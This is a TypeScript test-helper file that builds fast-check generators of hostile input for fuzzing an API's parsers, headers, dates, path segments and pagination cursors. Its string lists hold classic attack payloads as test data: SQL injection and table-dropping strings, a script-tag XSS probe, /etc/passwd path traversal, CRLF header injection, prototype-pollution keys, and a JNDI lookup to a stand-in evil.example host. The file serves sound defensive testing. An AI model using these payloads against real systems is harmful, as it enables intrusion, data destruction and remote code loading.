import { fc } from "@fast-check/vitest";
import { base64url } from "./auth";

/**
 * fast-check arbitraries of hostile input: strings, header values, days and instants, path segments,
 * forged cursors (JSON bodies and queries: test/helpers/json-arbitraries.ts).
 */

/** Strings that have broken parsers, databases and log pipelines before. */
export const NASTY_STRINGS = [
  "",
  " ",
  "   \t\n",
  "\u0000",
  "a\u0000b",
  "\u0007\u0008\u001b[31mred\u001b[0m",
  "line\r\nInjected: header",
  '{"level":"error","message":"forged"}\n',
  "\u202eevil\u202c",
  "\ufeffbom",
  "\u200b",
  "🍚🍜🥢",
  "👨‍👩‍👧‍👦",
  "식단 일기",
  "e\u0301",
  "\ud800",
  "\udfff\ud800",
  "' OR 1=1--",
  "x'; drop table users;--",
  '"; select pg_sleep(10); --',
  "<script>alert(1)</script>",
  "../../../etc/passwd",
  "..%2f..%2f",
  "%00",
  "%E0%A4%A",
  ["$", "{jndi:ldap://evil.example/a}"].join(""),
  "{{7*7}}",
  "__proto__",
  "constructor",
  "NaN",
  "Infinity",
  "-0",
  "1e309",
  "null",
  "true",
  "[]",
  "{}",
  "\\",
  '"',
  "a".repeat(255),
  "a".repeat(256),
  "x".repeat(5000),
  "가".repeat(3000),
];

/** Text of `min` to `max` graphemes, at least `min` of them not blank: a valid title or note. */
export const graphemeText = (min: number, max: number) =>
  fc
    .string({ unit: "grapheme", minLength: min, maxLength: max })
    .filter((value) => value.trim().length >= min);

/** Any string a hostile client might send: nasty constants, full unicode, control characters (NUL too), long runs. */
export function nastyString({ maxLength = 60 }: { maxLength?: number } = {}) {
  return fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
    { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength }) },
    { weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength }) },
    { weight: 2, arbitrary: fc.string({ maxLength }) },
    {
      weight: 1,
      arbitrary: fc.string({
        unit: fc.constantFrom("\u0000", "\u0001", "\u001f", "\u007f", "\u0085", "\u2028", "\ud800", "a"),
        maxLength,
      }),
    },
  );
}
/** CR, LF and NUL: a Headers object refuses them. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: these control characters are the point.
const HEADER_BREAKERS = /[\r\n\u0000]/g;

/**
 * A header value a client can send (visible ASCII, spaces, tabs), up to `maxLength`. (Latin-1 is
 * left out: workerd encodes it as UTF-8 with a console warning per request.)
 */
export const headerValue = (maxLength = 80) =>
  fc
    .oneof(
      fc.string({ maxLength }),
      fc.string({
        unit: fc.integer({ min: 0x09, max: 0x7e }).map((code) => String.fromCharCode(code)),
        maxLength,
      }),
      fc.constantFrom("", " ", "\t", "a".repeat(8192), "%00", "' OR 1=1--", "../", "null", "undefined"),
    )
    .map((value) => value.replace(HEADER_BREAKERS, " ").trim());

/** A calendar day string, mostly well-formed, sometimes almost. */
export const dayString = () =>
  fc.oneof(
    {
      weight: 4,
      arbitrary: fc
        .date({ min: new Date("1900-01-01"), max: new Date("2100-12-31"), noInvalidDate: true })
        .map((d) => d.toISOString().slice(0, 10)),
    },
    {
      weight: 2,
      arbitrary: fc.constantFrom(
        "2026-02-29",
        "2024-02-29",
        "2026-02-30",
        "2026-13-01",
        "2026-00-10",
        "2026-1-1",
        "26-11-20",
        "2026/11/20",
        "2026-11-20T00:00:00Z",
        "20261120",
        "9999-12-31",
        "0001-01-01",
        "0000-01-01",
        "0000-12-31",
        "+002026-11-20",
        "2026-11-20 ",
        "",
      ),
    },
    { weight: 1, arbitrary: nastyString({ maxLength: 12 }) },
  );

/** An instant string with an offset, mostly well-formed, sometimes not. */
export const instantString = ({ minYear = 1900, maxYear = 2100 } = {}) =>
  fc.oneof(
    {
      weight: 4,
      arbitrary: fc
        .tuple(
          fc.date({
            min: new Date(Date.UTC(minYear, 0, 1)),
            max: new Date(Date.UTC(maxYear, 11, 31)),
            noInvalidDate: true,
          }),
          fc.constantFrom("Z", "+09:00", "-05:00", "+14:00", "-12:00", "+05:45", "+0900", "+00:00"),
        )
        .map(([date, offset]) => {
          const iso = date.toISOString();
          return offset === "Z" ? iso : `${iso.slice(0, -1)}${offset}`;
        }),
    },
    {
      weight: 2,
      arbitrary: fc.constantFrom(
        "2026-11-20T12:00:00",
        "2026-11-20",
        "2026-11-20T25:00:00Z",
        "2026-02-30T12:00:00Z",
        "2026-11-20T12:00:00+24:00",
        "2026-11-20T12:00:00+99:99",
        "2026-11-20t12:00:00z",
        "2026-11-20T12:00:00.123456789Z",
        "1999-12-31T23:59:59Z",
        "2000-01-01T00:00:00Z",
        "9999-12-31T23:59:59Z",
        "0000-01-01T00:00:00Z",
        "9999-12-31T23:59:59-14:00",
        "0001-01-01T00:00:00+14:00",
        "1700000000",
        "now",
        "",
      ),
    },
    { weight: 1, arbitrary: nastyString({ maxLength: 20 }) },
  );

/** Path segments a hostile client might put where an id goes (encoded as they go on the wire). */
export const hostileSegment = () =>
  fc.oneof(
    fc.constantFrom(
      "' OR 1=1--",
      "1 OR 1=1",
      "../users/me",
      "..%2f..%2fusers%2fme",
      "%2e%2e%2f",
      "%00",
      "%E0%A4%A",
      "%",
      "%%",
      "%u0000",
      "null",
      "undefined",
      "me",
      "summary",
      "0",
      "-1",
      "00000000-0000-0000-0000-000000000000",
      "FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF",
      "01936f00-0000-7000-8000-00000000000",
      "01936f00-0000-7000-8000-0000000000011",
      "{id}",
      ":id",
      "*",
      "a".repeat(101),
      "a".repeat(5000),
    ),
    nastyString({ maxLength: 40 }).map((text) => encodeURIComponent(wellFormed(text))),
    fc.uuid().map((id) => id.toUpperCase()),
    fc.uuid(),
  );
/** Lone surrogates cannot be percent-encoded; a client sends U+FFFD instead. */
export const wellFormed = (text: string) =>
  text.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, "\ufffd");

/**
 * A list cursor built by hand (forged): base64url JSON of the real shape `{ at, id }` or of older
 * ones (`{ <legacyKey>, id }`), with right and hostile values (src/lib/cursor.ts must answer 400).
 */
export function forgedCursor(legacyKey: string) {
  return fc
    .record({
      at: fc.oneof(
        fc
          .date({ noInvalidDate: true, min: new Date("1970-01-01"), max: new Date("2200-01-01") })
          .map((d) => d.toISOString()),
        instantString(),
        nastyString({ maxLength: 30 }),
        fc.constantFrom(1, null, "1", "2026-02-30T00:00:00Z"),
      ),
      id: fc.oneof(fc.uuid(), hostileSegment(), fc.constantFrom(1, null)),
      key: fc.constantFrom("at", "at", legacyKey),
    })
    .map(({ at, id, key }) =>
      base64url(JSON.stringify({ [key]: typeof at === "string" ? wellFormed(at) : at, id })),
    );
}
